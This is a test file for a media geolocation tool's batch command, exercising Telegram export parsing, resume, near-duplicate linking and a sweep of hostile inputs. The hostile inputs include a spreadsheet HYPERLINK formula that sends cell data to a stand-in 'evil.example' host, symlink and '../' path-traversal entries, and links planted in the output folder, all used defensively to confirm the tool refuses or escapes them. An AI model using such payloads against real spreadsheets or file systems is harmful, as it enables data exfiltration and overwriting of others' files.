"""geoverify batch on a Telegram-style export built from the real sample media: every row,
resume, duplicates, near-duplicates, failures, and the same rows on a Dask LocalCluster; then
hostile inputs and output folders (links, FIFOs, devices, bad export messages, formula cells,
folders of the user's, two batches at once, a SIGKILL), each with real files and processes."""

from __future__ import annotations

import csv
import hashlib
import html
import json
import os
import re
import runpy
import shutil
import subprocess
import sys
import time
from datetime import UTC, datetime
from fractions import Fraction
from pathlib import Path

import pytest
from conftest import KARMA, ROOT
from fixtures import write_clip
from typer.testing import CliRunner

from geoverify.batch import collect_inputs, read_telegram_export, verify_batch as _verify_batch
from geoverify.cli import app
from geoverify.frames import FrameOptions

runner = CliRunner()
BAKHMUT = ROOT / "samples" / "bakhmut"
BERLIN = ROOT / "samples" / "berlin"
# the tests are about the batch, not frame coverage: each video's two sharpest frames (two, so
# that the re-upload is still linked by its frames' hashes), the plain pass
FEW = FrameOptions(best=2)


def verify_batch(*args, **options):
    """``geoverify.batch.verify_batch`` reading no text unless a test asks (test_text reads it)."""
    options.setdefault("text", None)
    return _verify_batch(*args, **options)


@pytest.fixture(scope="module")
def export(tmp_path_factory):
    out = tmp_path_factory.mktemp("export")
    return runpy.run_path(str(ROOT / "samples" / "telegram" / "make_export.py"))["main"](out)


@pytest.fixture(scope="module")
def batch(export, tmp_path_factory):
    out = tmp_path_factory.mktemp("batch") / "out"
    result = verify_batch(
        [export], registry=BERLIN / "registry.geojson", out=out, workers=2, affine="off", frames=FEW
    )
    return result, out


def _by_file(result):
    return {Path(r.paths[0]).name if r.paths else "": r for r in result.rows}


def test_the_export_is_read_as_telegram_writes_it(export):
    items = read_telegram_export(export)
    assert len(items) == 7  # the service message is not an item
    missing = [i for i in items if i.missing_reason]
    assert [i.posts[0].message_id for i in missing] == [104]
    first = items[0].posts[0]
    # date_unixtime is the UTC time; `date` (local to the exporting computer) is ignored
    assert first.posted_utc == datetime(2026, 1, 5, 9, 0, tzinfo=UTC)
    assert items[1].posts[0].text == "Street view #test"  # text entities joined
    assert items[2].posts[0].forwarded_from == "Another test channel"


def test_every_row(batch):
    result, out = batch
    rows = _by_file(result)
    assert rows["karma.mp4"].status == "done"
    assert rows["karma.mp4"].duplicates == (str(Path(rows["karma.mp4"].paths[1])),)
    assert len(rows["karma.mp4"].posts) == 2  # verified once, linked to both posts
    assert rows["iphone.mov"].status == "done"
    assert rows["broken.mp4"].status == "failed"
    assert rows["broken.mp4"].error_code.startswith("E_")
    assert rows[""].status == "missing"  # the file the export did not include
    assert rows["berlin_01.jpg"].status == "done"  # a photo: one frame, its EXIF as evidence
    # the re-upload: other bytes, the same pictures, linked with its distance, not merged
    reup = rows["iphone_reupload.mp4"]
    assert reup.status == "done"
    assert reup.file_sha256 != rows["iphone.mov"].file_sha256
    assert [k for k, _ in reup.near_duplicates] == [rows["iphone.mov"].key]
    assert 0 <= reup.near_duplicates[0][1] <= 10
    assert result.any_failed
    # the outputs: summary.json, summary.csv, index.html, one report per distinct file
    summary = json.loads((out / "summary.json").read_text())
    assert summary["schema_version"] == "1.1"
    assert len(summary["rows"]) == len(result.rows) == 6
    with (out / "summary.csv").open() as fh:
        table = list(csv.DictReader(fh))
    assert {r["status"] for r in table} == {"done", "failed", "missing"}
    page = (out / "index.html").read_text()
    assert page.count("<tr class=") == 6
    assert "script-src 'sha256-" in page
    for row in result.rows:
        if row.status == "done":
            assert (Path(row.report_dir) / "report.html").is_file()


def test_the_post_time_bounds_when_it_was_filmed(batch):
    result, _ = batch
    karma = _by_file(result)["karma.mp4"]
    report = json.loads((Path(karma.report_dir) / "report.json").read_text())
    time_line = next(ln for ln in report["bottom_line"]["lines"] if ln["line"] == "time")
    assert time_line["outcome"] == "supports"  # 2017 footage posted in 2026: filmed before
    assert "2026-01-05T09:00:00Z" in time_line["numbers"]["window_utc"]


def test_summary_matches_its_schema(batch):
    import jsonschema

    _, out = batch
    schema = json.loads((ROOT / "geoverify" / "schemas" / "batch.schema.json").read_text())
    jsonschema.validate(json.loads((out / "summary.json").read_text()), schema)


def test_a_second_run_resumes_and_a_changed_option_redoes(batch, export):
    result, out = batch
    again = verify_batch(
        [export], registry=BERLIN / "registry.geojson", out=out, workers=2, affine="off", frames=FEW
    )
    assert again.done == 0
    assert again.reused == result.done
    assert [r.key for r in again.rows] == [r.key for r in result.rows]
    # an interrupted run: a finished item's row is gone, so only that item runs again
    victim = _by_file(again)["iphone.mov"]
    (Path(victim.report_dir) / "row.json").unlink()
    third = verify_batch(
        [export], registry=BERLIN / "registry.geojson", out=out, workers=1, affine="off", frames=FEW
    )
    assert third.done == 1
    assert third.reused == result.done - 1
    # the frame options are part of the key: other frames, another report
    clip = export / "video_files" / "iphone.mov"
    other = verify_batch(
        [clip], registry=BERLIN / "registry.geojson", out=out, workers=1, affine="off",
        frames=FrameOptions(best=1),
    )  # fmt: skip
    assert (other.done, other.reused) == (1, 0)
    same = verify_batch(
        [clip], registry=BERLIN / "registry.geojson", out=out, workers=1, affine="off", frames=FEW
    )
    assert (same.done, same.reused) == (0, 1)


def test_folders_and_globs(tmp_path, export):
    items = collect_inputs([export / "video_files"])
    assert sorted(Path(i.path).name for i in items) == sorted(
        p.name for p in (export / "video_files").iterdir()
    )
    items = collect_inputs([str(export / "video_files" / "karma*.mp4")])
    assert sorted(Path(i.path).name for i in items) == ["karma.mp4", "karma_again.mp4"]
    items = collect_inputs([str(tmp_path / "nothing*.mp4")])
    assert items[0].missing_reason == "the glob matches no file"


def test_the_cli_exits_5_when_an_item_failed(tmp_path, export):
    out = tmp_path / "b"
    result = runner.invoke(
        app,
        [
            "batch", str(export / "video_files" / "broken.mp4"), str(KARMA),
            "--registry", str(BAKHMUT / "registry.geojson"), "--out", str(out), "--workers", "1",
            "--json",
        ],
    )  # fmt: skip
    assert result.exit_code == 5, result.output
    data = json.loads(result.stdout)
    assert {r["status"] for r in data["rows"]} == {"done", "failed"}


def test_dask_local_cluster_gives_the_same_rows(batch, export, tmp_path):
    distributed = pytest.importorskip("dask.distributed")
    result, _ = batch
    cluster = distributed.LocalCluster(
        n_workers=2, threads_per_worker=1, processes=True, dashboard_address=":0"
    )
    try:
        out = tmp_path / "dask"
        dask_result = verify_batch(
            [export],
            registry=BERLIN / "registry.geojson",
            out=out,
            scheduler=cluster.scheduler_address,
            affine="off",
            frames=FEW,
        )
    finally:
        cluster.close()

    def essentials(res):
        return [
            (r.key, r.status, r.verdict, r.landmarks_matched, r.error_code, r.near_duplicates)
            for r in res.rows
        ]

    assert essentials(dask_result) == essentials(result)
    assert dask_result.engine.startswith("dask")


def test_an_out_folder_of_other_files_is_refused(tmp_path, export):
    out = tmp_path / "out"
    out.mkdir()
    (out / "notes.txt").write_text("mine")
    result = runner.invoke(
        app,
        ["batch", str(KARMA), "--registry", str(BAKHMUT / "registry.geojson"), "--out", str(out)],
    )
    assert result.exit_code == 7
    assert [p.name for p in out.iterdir()] == ["notes.txt"]
    shutil.rmtree(out)


def test_an_interrupted_batch_resumes_where_it_stopped(tmp_path, export):
    import signal
    import subprocess
    import sys
    import time

    geoverify = Path(sys.executable).parent / "geoverify"
    out = tmp_path / "out"
    cmd = [
        str(geoverify), "batch", str(export), "--registry", str(BERLIN / "registry.geojson"),
        "--out", str(out), "--workers", "1", "--affine", "off", "--best", "2", "--text", "off",
    ]  # fmt: skip
    proc = subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline and not list(out.glob("items/*/row.json")):
        time.sleep(0.2)
    proc.send_signal(signal.SIGINT)
    _, err = proc.communicate(timeout=120)
    finished = {p.parent.name for p in out.glob("items/*/row.json")}
    if proc.returncode != 130:  # it finished everything before the signal arrived
        pytest.skip("the batch finished before it could be interrupted")
    assert "Traceback" not in err
    assert finished  # what was done is kept
    rest = verify_batch(
        [export], registry=BERLIN / "registry.geojson", out=out, workers=1, affine="off", frames=FEW
    )
    assert rest.reused == len(finished)  # only what was not finished runs again
    assert rest.done == sum(1 for r in rest.rows if r.status == "done") - len(finished)


def test_a_full_account_export_nests_its_chats(tmp_path, export):
    single = json.loads((export / "result.json").read_text())
    account = {
        "about": "full export",
        "chats": {"about": "", "list": [single, dict(single, name="b")]},
    }
    folder = tmp_path / "account"
    shutil.copytree(export / "video_files", folder / "video_files")
    shutil.copytree(export / "photos", folder / "photos")
    (folder / "result.json").write_text(json.dumps(account))
    items = read_telegram_export(folder)
    assert len(items) == 2 * len(read_telegram_export(export))
    assert {i.posts[0].channel for i in items} == {single["name"], "b"}


def test_bad_batch_options_are_refused_before_any_work(tmp_path, export):
    from geoverify import InputError

    with pytest.raises(InputError):
        verify_batch([export], registry=BERLIN / "registry.geojson", out=tmp_path / "o",
                     threads_per_worker=-1)  # fmt: skip
    with pytest.raises(InputError):
        verify_batch([export], registry=BERLIN / "registry.geojson", out=tmp_path / "p",
                     workers=0)  # fmt: skip
    assert list(tmp_path.iterdir()) == []  # nothing was written


def test_pool_workers_get_one_blas_thread_each(monkeypatch):
    # two workers on two cores: each one's BLAS pool (the matcher's matrix products) is sized
    # to its thread count when it is spawned, and the caller's environment is left as it was
    import subprocess
    import sys

    from geoverify.batch._engines import blas_threads

    monkeypatch.setenv("OMP_NUM_THREADS", "3")
    monkeypatch.delenv("OPENBLAS_NUM_THREADS", raising=False)
    show = "import os; print(os.environ['OPENBLAS_NUM_THREADS'], os.environ['OMP_NUM_THREADS'])"
    with blas_threads(1):
        child = subprocess.run([sys.executable, "-c", show], capture_output=True, text=True)
    assert child.stdout.split() == ["1", "1"]
    assert os.environ["OMP_NUM_THREADS"] == "3"
    assert "OPENBLAS_NUM_THREADS" not in os.environ
    with blas_threads(0):  # automatic: nothing set
        assert "OPENBLAS_NUM_THREADS" not in os.environ


# --- hostile inputs: the adversarial sweep of December 2026 ----------------------------------
#
# Each case is a real file, folder, link, FIFO or device, run through the real command (in a
# subprocess with a time limit, so that a hang fails the test instead of stalling the suite).

GEOVERIFY = Path(sys.executable).parent / "geoverify"
REGISTRY = BERLIN / "registry.geojson"
EVIL_CHANNEL = '=HYPERLINK("http://evil.example/?"&A2,"open")'
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _run(*args, timeout=300):
    return subprocess.run(
        [str(GEOVERIFY), *map(str, args)], capture_output=True, text=True, timeout=timeout
    )


def _batch_args(*inputs, out):
    return ["batch", *inputs, "--registry", REGISTRY, "--out", out, "--workers", "1",
            "--best", "2", "--affine", "off", "--text", "off"]  # fmt: skip


def _reencode(src, dst, *, size, fps, bit_rate):
    """Decode ``src`` and encode it again (MPEG-4 Part 2) at another size, frame rate and bit
    rate, as a platform's re-upload does: other bytes, the same pictures at the same times."""
    import av
    import cv2
    import numpy as np

    with av.open(str(src)) as inp:
        decoded = [
            (float(f.pts * f.time_base), f.to_ndarray(format="rgb24"))
            for f in inp.decode(inp.streams.video[0])
        ]
    times = [t for t, _ in decoded]
    end = times[-1] + (times[-1] - times[-2])
    with av.open(str(dst), "w", format="mp4") as out:
        stream = out.add_stream("mpeg4", rate=fps)
        stream.width, stream.height = size
        stream.pix_fmt = "yuv420p"
        stream.bit_rate = bit_rate
        for k in range(round(end * fps)):
            i = max(0, int(np.searchsorted(times, k / fps, side="right")) - 1)
            img = cv2.resize(decoded[i][1], size, interpolation=cv2.INTER_AREA)
            frame = av.VideoFrame.from_ndarray(img, format="rgb24")
            frame.pts, frame.time_base = k, Fraction(1, fps)
            out.mux(stream.encode(frame))
        out.mux(stream.encode())
    return dst


def _message(n, file, **extra):
    return {"id": n, "type": "message", "date_unixtime": str(1_767_600_000 + 3600 * n),
            "media_type": "video_file", "file": file, "text": f"post {n}", **extra}  # fmt: skip


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """A Telegram export whose channel name is a spreadsheet formula, holding the real Karma
    clip, a heavily re-encoded re-upload of it, and one bad message of each kind."""
    root = tmp_path_factory.mktemp("hostile")
    export = root / "export"
    files = export / "video_files"
    files.mkdir(parents=True)
    shutil.copyfile(KARMA, files / "karma.mp4")
    # a re-upload at another size, frame rate and a low bit rate: its report picks other
    # frames than the original's (its sharpest frames are others)
    _reencode(KARMA, files / "karma_reupload.mp4", size=(426, 240), fps=25, bit_rate=100_000)
    write_clip(root / "secret.mp4", n_frames=12)  # outside the export: never read
    os.symlink(root / "secret.mp4", files / "leak.mp4")
    os.symlink("loop.mp4", files / "loop.mp4")
    os.mkfifo(files / "fifo.mp4")
    messages = [
        _message(1, "video_files/karma.mp4"),
        _message(2, "video_files/karma_reupload.mp4"),
        _message(3, "video_files/absent.mp4"),  # C1: the file is not there
        _message(4, "video_files"),  # C2: a folder
        _message(5, "video_files/loop.mp4"),  # C3: a link loop
        _message(6, "video_files/a\0.mp4"),  # C4: a NUL in the name
        _message(7, "video_files/karma.mp4",  # C5: a latitude of 400 digits
                 location_information={"latitude": int("1" * 400), "longitude": 1}),
        _message(8, "video_files/fifo.mp4"),  # H1: a FIFO
        _message(9, "video_files/leak.mp4"),  # a link that leaves the export
        _message(10, "../secret.mp4"),  # a path that leaves it
    ]  # fmt: skip
    doc = {"name": EVIL_CHANNEL, "type": "public_channel", "id": 1, "messages": messages}
    (export / "result.json").write_text(json.dumps(doc))
    out = root / "out"
    proc = _run(*_batch_args(export, out=out), "--json")
    return root, out, proc


def _by_message(result):
    return {p["message_id"]: r for r in result["rows"] for p in r["posts"]}


def test_one_bad_message_is_its_own_row_and_the_batch_finishes(hostile):
    root, out, proc = hostile
    assert proc.returncode == 5, proc.stderr
    assert "Traceback" not in proc.stderr
    rows = _by_message(json.loads(proc.stdout))
    assert rows[1]["status"] == rows[2]["status"] == "done"
    expected = {
        3: ("missing", "E_INPUT_MISSING"),
        4: ("failed", "E_INPUT_NOT_REGULAR"),  # a folder
        5: ("failed", "E_INPUT_UNREADABLE"),  # a link loop
        6: ("failed", "E_EXPORT_INVALID"),  # a NUL in the name
        7: ("failed", "E_EXPORT_INVALID"),  # the latitude
        8: ("failed", "E_INPUT_NOT_REGULAR"),  # a FIFO: refused, not waited on
        9: ("failed", "E_INPUT_OUTSIDE"),
        10: ("failed", "E_INPUT_OUTSIDE"),
    }
    assert {n: (rows[n]["status"], rows[n]["error_code"]) for n in expected} == expected
    assert "message 7" in rows[7]["error_message"]
    # the file outside the export was never read: its hash is nowhere in the summary
    secret = hashlib.sha256((root / "secret.mp4").read_bytes()).hexdigest()
    assert secret not in (out / "summary.json").read_text()


def test_a_reencoded_reupload_is_linked_with_its_distance(hostile):
    _, out, proc = hostile
    rows = _by_message(json.loads(proc.stdout))
    original, reupload = rows[1], rows[2]
    assert original["file_sha256"] != reupload["file_sha256"]
    [(key, distance)] = reupload["near_duplicates"]
    assert key == original["key"]
    assert 0 <= distance <= 10
    assert original["near_duplicates"] == [[reupload["key"], distance]]
    with (out / "summary.csv").open(newline="") as fh:
        table = {r["key"]: r for r in csv.DictReader(fh)}
    assert table[reupload["key"]]["near_duplicates"] == f"{original['key']}:{distance}"
    # named by the post it duplicates (its channel, a formula, stays text), never by a key
    page = (out / "index.html").read_text()
    named = f"looks like message 1 in {EVIL_CHANNEL}: “post 1” (re-encoded: {distance} of 64"
    assert html.escape(named) in page
    assert f"looks like {original['key'][:12]}" not in page


def test_summary_csv_cells_are_never_formulas(hostile):
    from geoverify.batch._outputs import csv_cell

    _, out, _ = hostile
    with (out / "summary.csv").open(newline="") as fh:
        table = list(csv.DictReader(fh))
    cells = [v for row in table for v in row.values() if v]
    assert not [v for v in cells if v.startswith(FORMULA_START)]
    assert "'" + EVIL_CHANNEL in cells  # kept whole, as text
    # a file name such as `=1+2.mp4` (a path cell relative to the current folder) likewise
    assert csv_cell("=1+2.mp4") == "'=1+2.mp4"
    assert [csv_cell(v) for v in ("+1", "-1", "@SUM(A1)", "\tx", "\rx")] == [
        "'+1",
        "'-1",
        "'@SUM(A1)",
        "'\tx",
        "'\rx",
    ]
    assert csv_cell("karma.mp4") == "karma.mp4"


def test_every_file_of_a_batch_folder_is_listed_by_a_manifest(hostile):
    from geoverify._output import survey_output_dir

    _, out, _ = hostile
    assert survey_output_dir(out).foreign == ()
    manifest = json.loads((out / "manifest.json").read_text())
    assert manifest["written_by"] == "geoverify batch"
    assert {"summary.json", "summary.csv", "index.html"} <= set(manifest["files"])
    rows = [n for n in manifest["files"] if n.endswith("/row.json")]
    assert len(rows) == 2  # each finished item's row, listed by its own manifest too


@pytest.fixture(scope="module")
def folder_run(tmp_path_factory):
    """A folder holding a clip, a link to it, a link leaving the folder and a FIFO; plus a
    device, a FIFO and a missing path given as inputs."""
    root = tmp_path_factory.mktemp("folder")
    folder = root / "in"
    folder.mkdir()
    write_clip(folder / "a.mp4")
    write_clip(root / "secret.mp4", n_frames=12)
    os.symlink(root / "secret.mp4", folder / "b.mp4")  # S1: leaves the folder
    os.symlink("a.mp4", folder / "c.mp4")  # stays inside: the same file
    os.mkfifo(folder / "d.mp4")
    os.mkfifo(root / "e.mp4")
    out = root / "out"
    proc = _run(*_batch_args(folder, "/dev/zero", root / "e.mp4", root / "missing.mp4", out=out),
                "--json")  # fmt: skip
    return root, out, proc


def test_links_fifos_devices_and_missing_paths_are_rows(folder_run):
    root, out, proc = folder_run
    assert proc.returncode == 5, proc.stderr
    rows = {Path(r["paths"][0]).name: r for r in json.loads(proc.stdout)["rows"]}
    assert rows["a.mp4"]["status"] == "done"
    assert [Path(p).name for p in rows["a.mp4"]["duplicates"]] == ["c.mp4"]
    got = {name: (r["status"], r["error_code"]) for name, r in rows.items() if name != "a.mp4"}
    assert got == {
        "b.mp4": ("failed", "E_INPUT_OUTSIDE"),
        "d.mp4": ("failed", "E_INPUT_NOT_REGULAR"),
        "zero": ("failed", "E_INPUT_NOT_REGULAR"),
        "e.mp4": ("failed", "E_INPUT_NOT_REGULAR"),
        "missing.mp4": ("missing", "E_INPUT_MISSING"),
    }
    secret = hashlib.sha256((root / "secret.mp4").read_bytes()).hexdigest()
    assert secret not in (out / "summary.json").read_text()


def test_an_out_inside_an_input_folder_is_skipped_never_read_back(tmp_path):
    # W1: --out inside the input folder: the walk skips it, so a second run reads the same
    # inputs and reuses every item instead of verifying its own frames
    src = tmp_path / "in"
    src.mkdir()
    write_clip(src / "a.mp4")
    inside = src / "out"
    first = runner.invoke(app, [str(a) for a in _batch_args(src, out=inside)] + ["--json"])
    assert first.exit_code in (0, 5), first.stderr
    again = runner.invoke(app, [str(a) for a in _batch_args(src, out=inside)] + ["--json"])
    assert again.exit_code == first.exit_code, again.stderr
    rows1 = json.loads(first.stdout)["rows"]
    rows2 = json.loads(again.stdout)["rows"]
    assert len(rows1) == len(rows2) == 1
    assert json.loads(again.stdout)["reused"] == 1
    assert not any("/out/" in p for r in rows2 for p in r["paths"])


def test_an_out_holding_an_input_is_refused(folder_run, tmp_path):
    root, _, _ = folder_run
    # the registry's folder holds the registry
    case = tmp_path / "case"
    shutil.copytree(BERLIN, case)
    args = _batch_args(root / "in" / "a.mp4", out=case)
    args[args.index(REGISTRY)] = case / "registry.geojson"
    result = runner.invoke(app, [str(a) for a in args])
    assert result.exit_code == 7
    assert "E_OUTPUT_HOLDS_INPUT" in result.stderr
    assert sorted(p.name for p in case.iterdir()) == sorted(p.name for p in BERLIN.iterdir())


def test_no_existing_input_is_an_error_and_writes_nothing(tmp_path):
    out = tmp_path / "out"
    result = runner.invoke(app, [str(a) for a in _batch_args(tmp_path / "typo.mp4", out=out)])
    assert result.exit_code == 3
    assert "E_INPUT_MISSING" in result.stderr
    assert not out.exists()


def _options_named(text):
    return set(re.findall(r"--[a-z][a-z-]+", text))


def test_a_folder_of_the_users_files_is_not_claimed(tmp_path):
    # D4: a folder holding a summary.json of the user's is not a batch folder
    clip = write_clip(tmp_path / "clip.mp4")
    out = tmp_path / "out"
    out.mkdir()
    (out / "summary.json").write_text('{"mine": 1}')
    (out / "index.html").write_text("<h1>mine</h1>")
    help_text = runner.invoke(app, ["batch", "--help"], terminal_width=200).output
    for extra in ([], ["--overwrite"]):  # --overwrite never replaces a file of the user's
        result = runner.invoke(app, [str(a) for a in _batch_args(clip, out=out)] + extra)
        assert result.exit_code == 7, result.output
        assert "E_OUTPUT_NOT_EMPTY" in result.stderr
        assert _options_named(result.stderr) <= _options_named(help_text)  # the hint is true
    assert (out / "summary.json").read_text() == '{"mine": 1}'
    assert (out / "index.html").read_text() == "<h1>mine</h1>"
    assert sorted(p.name for p in out.iterdir()) == ["index.html", "summary.json"]


def test_overwrite_writes_beside_the_users_files_and_planted_links_are_refused(tmp_path):
    clip = write_clip(tmp_path / "clip.mp4")
    out = tmp_path / "out"
    out.mkdir()
    (out / "notes.txt").write_text("mine")
    proc = _run(*_batch_args(clip, out=out), "--overwrite")
    assert proc.returncode == 0, proc.stderr
    assert (out / "notes.txt").read_text() == "mine"
    assert "notes.txt" not in json.loads((out / "manifest.json").read_text())["files"]
    assert (out / "summary.csv").is_file()
    # a batch killed while it wrote its summaries: the manifest names the new ones as pending
    manifest = json.loads((out / "manifest.json").read_text())
    new_csv = (out / "summary.csv").read_bytes() + b"written, not yet listed\n"
    manifest["pending"] = {"summary.csv": hashlib.sha256(new_csv).hexdigest()}
    (out / "manifest.json").write_text(json.dumps(manifest))
    (out / "summary.csv").write_bytes(new_csv)
    proc = _run(*_batch_args(clip, out=out), "--overwrite")
    assert proc.returncode == 0, proc.stderr  # the batch's own file, known as such
    assert b"not yet listed" not in (out / "summary.csv").read_bytes()
    # an analyst's edit of summary.csv makes it theirs: kept, even with --overwrite
    (out / "summary.csv").write_text("my notes\n")
    proc = _run(*_batch_args(clip, out=out), "--overwrite")
    assert proc.returncode == 7
    assert "E_OUTPUT_NOT_EMPTY" in proc.stderr
    assert (out / "summary.csv").read_text() == "my notes\n"
    # S2: a link planted in place of summary.csv
    victim = tmp_path / "victim.txt"
    victim.write_text("victim")
    (out / "summary.csv").unlink()
    (out / "summary.csv").symlink_to(victim)
    result = runner.invoke(app, [str(a) for a in _batch_args(clip, out=out)] + ["--overwrite"])
    assert result.exit_code == 7
    assert "E_OUTPUT_SYMLINK" in result.stderr
    assert victim.read_text() == "victim"
    (out / "summary.csv").unlink()
    # S3: a link planted in place of items/
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    shutil.rmtree(out / "items")
    (out / "items").symlink_to(elsewhere)
    result = runner.invoke(app, [str(a) for a in _batch_args(clip, out=out)] + ["--overwrite"])
    assert result.exit_code == 7
    assert "E_OUTPUT_SYMLINK" in result.stderr
    assert list(elsewhere.iterdir()) == []


def test_a_link_planted_during_the_run_is_not_written_through(tmp_path):
    # the batch checked --out, then items/ became a link before a worker saved its item
    from geoverify.batch import run_item
    from geoverify.models import to_jsonable

    clip = write_clip(tmp_path / "clip.mp4")
    out = tmp_path / "out"
    out.mkdir()
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (out / "items").symlink_to(elsewhere)
    task = {
        "key": "k", "sha256": "0" * 64, "path": str(clip), "registry": str(REGISTRY),
        "claims": "", "out": str(out), "posted_utc": "", "overwrite": False,
        "options": {"matching": {"affine": "off"}, "frames": to_jsonable(FrameOptions(best=1))},
    }  # fmt: skip
    row = run_item(task)
    assert (row["status"], row["error_code"]) == ("failed", "E_OUTPUT_SYMLINK")
    assert list(elsewhere.iterdir()) == []


def _children(pid):
    """The pool workers of ``pid`` (spawned interpreters), from /proc."""
    kids = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            fields = (entry / "stat").read_text().rsplit(")", 1)[1].split()
            cmdline = (entry / "cmdline").read_bytes()
        except OSError:
            continue
        if int(fields[1]) == pid and b"spawn_main" in cmdline:
            kids.append(int(entry.name))
    return kids


def _alive(pid):
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except OSError:
        return False
    return state != "Z"


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="reads /proc")
def test_a_running_batch_owns_its_folder_and_its_workers_die_with_it(tmp_path):
    # W10: a second batch into the same --out is refused while the first runs; W7: after a
    # SIGKILL of the batch its workers write nothing more; the folder then resumes
    folder = tmp_path / "in"
    folder.mkdir()
    for k in range(6):
        write_clip(folder / f"v{k}.mp4", n_frames=20 + k)
    out = tmp_path / "out"
    first = subprocess.Popen(
        [str(GEOVERIFY), *map(str, _batch_args(folder, out=out)), "--workers", "2"],
        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
    )  # fmt: skip
    try:
        deadline = time.monotonic() + 120
        while not (out / "manifest.json").exists() and time.monotonic() < deadline:
            time.sleep(0.05)
        second = _run(*_batch_args(write_clip(tmp_path / "b.mp4"), out=out), timeout=120)
        assert second.returncode == 7, second.stderr
        assert "E_OUTPUT_BUSY" in second.stderr
        while not list(out.glob("items/*/row.json")) and time.monotonic() < deadline:
            time.sleep(0.05)
        workers = _children(first.pid)
        assert workers, "the batch has no pool workers"
        assert first.poll() is None, "the batch finished before it could be killed"
        first.kill()  # SIGKILL: no handler, no clean-up
        first.wait(timeout=30)
    finally:
        if first.poll() is None:
            first.kill()
            first.wait()
    deadline = time.monotonic() + 10
    while any(_alive(w) for w in workers) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert not [w for w in workers if _alive(w)], "workers outlived the killed batch"
    finished = {p.parent.name for p in out.glob("items/*/row.json")}
    time.sleep(2)
    assert {p.parent.name for p in out.glob("items/*/row.json")} == finished
    # the killed batch's folder is geoverify's: it resumes, reusing what was finished
    rest = verify_batch([folder], registry=REGISTRY, out=out, workers=1, affine="off",
                        frames=FEW)  # fmt: skip
    assert rest.reused == len(finished)
    assert (rest.done, len(rest.rows)) == (6 - len(finished), 6)
    assert len(json.loads((out / "summary.json").read_text())["rows"]) == 6


def test_the_scheduler_address_is_checked_before_any_work(tmp_path):
    from geoverify import InputError
    from geoverify.batch._engines import scheduler_address

    for bad in ("not a url", "tcp://host", "tcp://host:99999", "http://host:80", "tcp://h:1/x",
                "tcp://:8786", ""):  # fmt: skip
        with pytest.raises(InputError) as caught:
            scheduler_address(bad)
        assert caught.value.code == "E_INPUT_OPTION"
    # C9: refused before a file is hashed or a folder made
    result = runner.invoke(app, [str(a) for a in _batch_args(KARMA, out=tmp_path / "o")]
                           + ["--scheduler", "not a url"])  # fmt: skip
    assert result.exit_code == 3
    assert "E_INPUT_OPTION" in result.stderr
    assert "Traceback" not in result.output
    assert list(tmp_path.iterdir()) == []
    pytest.importorskip("dask.distributed")
    assert scheduler_address("tcp://127.0.0.1:8786") == "tcp://127.0.0.1:8786"
    assert scheduler_address("10.0.0.5:8786") == "tcp://10.0.0.5:8786"


def test_a_scheduler_without_dask_names_the_pip_install(tmp_path):
    # Dask absent: importing it fails as it does when the optional extra is not installed
    code = (
        "import sys; sys.modules['dask'] = None; sys.argv[0] = 'geoverify'; "
        "from geoverify.cli import main; main()"
    )
    out = tmp_path / "o"
    proc = subprocess.run(
        [sys.executable, "-c", code, *map(str, _batch_args(KARMA, out=out)),
         "--scheduler", "tcp://127.0.0.1:8786"],
        capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    assert proc.returncode == 1, proc.stderr
    assert "E_MISSING_DEPENDENCY" in proc.stderr
    assert "pip install 'geoverify[dask]'" in proc.stderr
    assert "Traceback" not in proc.stderr
    assert not out.exists()


# --- the index: a triage an editor reads (names, posts, filters), at every width ------------


@pytest.fixture(scope="module")
def triaged(export, tmp_path_factory):
    """The export without claims, in a folder of its own (the resume test rewrites batch's)."""
    out = tmp_path_factory.mktemp("triage") / "out"
    result = verify_batch(
        [export], registry=BERLIN / "registry.geojson", out=out, workers=2, affine="off", frames=FEW
    )
    return result, out


def test_triage_rows_say_what_was_found_with_names(triaged):
    """Without claims a row says which landmark matched, by name, in how many frames, and
    where the file says it was: the distance checked against pyproj's geodesic."""
    from pyproj import Geod

    result, out = triaged
    photo = _by_file(result)["berlin_01.jpg"]
    assert photo.verdict == "not_established"  # no hypothesis: nothing to establish
    assert photo.landmark_names == ("Berliner Dom",)
    assert photo.findings.startswith("matched Berliner Dom in 1 of 1 frame;")
    lat, lon, metres = re.search(
        r"is (-?\d+\.\d{6}), (-?\d+\.\d{6}), ([\d,]+) m from Berliner Dom", photo.findings
    ).groups()
    features = json.loads((BERLIN / "registry.geojson").read_text())["features"]
    dom = next(f for f in features if f["properties"].get("id", f.get("id")) == "berliner_dom")
    dom_lon, dom_lat = dom["geometry"]["coordinates"][:2]
    _, _, expected_m = Geod(ellps="WGS84").inv(float(lon), float(lat), dom_lon, dom_lat)
    assert abs(int(metres.replace(",", "")) - expected_m) <= 0.5 + 0.2  # rounded to 1 m
    # the iPhone clip matched nothing: said so, with where its own tag puts it
    iphone = _by_file(result)["iphone.mov"]
    assert iphone.findings.startswith("no landmark matched in ")
    assert "32.092900, 34.862000" in iphone.findings
    page = (out / "index.html").read_text()
    assert "not_established" not in page.split("<tbody>")[1]  # the rows speak in words
    with (out / "summary.csv").open() as fh:
        table = {Path(r["paths"].split(";")[0]).name: r for r in csv.DictReader(fh)}
    assert table["berlin_01.jpg"]["findings"] == photo.findings


def _chromium():
    from test_pick import CHROMIUM, DevTools, Tab

    if CHROMIUM is None:
        pytest.skip("make test installs Debian's chromium")
    return DevTools, Tab


_LAYOUT = """(() => {
  var d = document.documentElement, links = [];
  document.querySelectorAll("tbody tr:not([hidden]) a.report").forEach(function (a) {
    a.scrollIntoView({block: "center"});
    var r = a.getBoundingClientRect();
    var hit = document.elementFromPoint(r.left + r.width / 2, r.top + r.height / 2);
    links.push({left: r.left, right: r.right, hit: hit === a});
  });
  return {scroll: d.scrollWidth, width: d.clientWidth, links: links};
})()"""


def _shown(tab):
    return tab.js(
        "Array.from(document.querySelectorAll('tbody tr'))"
